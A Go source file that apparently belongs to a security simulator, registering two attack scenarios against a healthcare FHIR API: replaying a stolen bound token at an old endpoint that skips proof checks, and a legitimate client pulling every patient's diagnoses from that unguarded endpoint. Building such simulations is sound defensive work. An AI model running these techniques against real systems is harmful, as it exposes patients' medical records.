package attacker

import (
	"context"
	"strings"

	"thiefbox/sim/event"
)

var _ = register("F-26", Technique{
	Variant: "log",
	Title:   "A bound token at an address that nobody switched off",
	Story: "The API moved to a new address when tokens were bound to keys, and the old one still answers. The thief has a token from an access log. At the " +
		"new address it is worth nothing without the key; at the old one nobody asks for any.",
	Reads:    []string{"OWASP API9:2023", "FAPI 2.0 SP 5.3.4-5", "RFC 9449 s7.2"},
	Evidence: "Requests at an old address, with a bound token and no proof.",
	Needs:    []event.Vantage{event.APILog},
	Run: func(ctx context.Context, g Ground) error {
		l, err := stolenRequest(g, event.APILog, "/Patient/")
		if err != nil {
			return err
		}
		at := strings.Replace(l.URL, g.Target().FHIRBase, g.Target().OldBase, 1) // the one thing changed
		_, err = send(g, withToken(get(ctx, at), "Bearer", l.token, ""))
		return err
	},
})

var _ = register("F-26/stranger", Technique{
	Variant: "stranger",
	Title:   "Whose record it is, asked where nobody learnt to ask",
	Story: "The thief is a doctor with an app and a valid token: nothing is stolen. The API asks whose record it is, and its old address, which nobody " +
		"switched off, never learnt to. He searches there for everybody's diagnoses.",
	Reads: []string{"OWASP API9:2023", "OWASP API1:2023", "FAPI 2.0 SP 5.3.4-5"},
	Has:   []event.Asset{event.OwnClient},
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		_, err = a.read(ctx, g.Target().OldBase+"/Condition", t)
		return err
	},
})
